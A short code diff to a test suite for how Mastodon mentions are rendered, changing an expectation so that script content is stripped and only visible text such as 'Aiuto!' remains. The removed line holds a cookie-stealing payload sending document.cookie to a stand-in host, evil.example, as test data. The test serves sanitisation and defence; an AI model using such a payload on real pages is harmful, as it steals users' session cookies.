@@ -73,7 +73,8 @@ describe('Mastodon mentions', () => {
       .items.reverse()
       .map((m) => m.text)
     expect(texts[0]).toBe('https://comune.empoli.fi.it')
-    expect(texts[1]).toBe('fetch("https://evil.example/?c="+document.cookie)Aiuto!')
+    // A script's content is never text: only what a reader would see is kept.
+    expect(texts[1]).toBe('Aiuto!')
     expect(texts[2]).toBe('<b>grassetto</b> & \u202Erovescio')
     expect(texts[3]?.endsWith('fine')).toBe(true)
     // The decoded "<b>" and the override are text for the display, never markup.
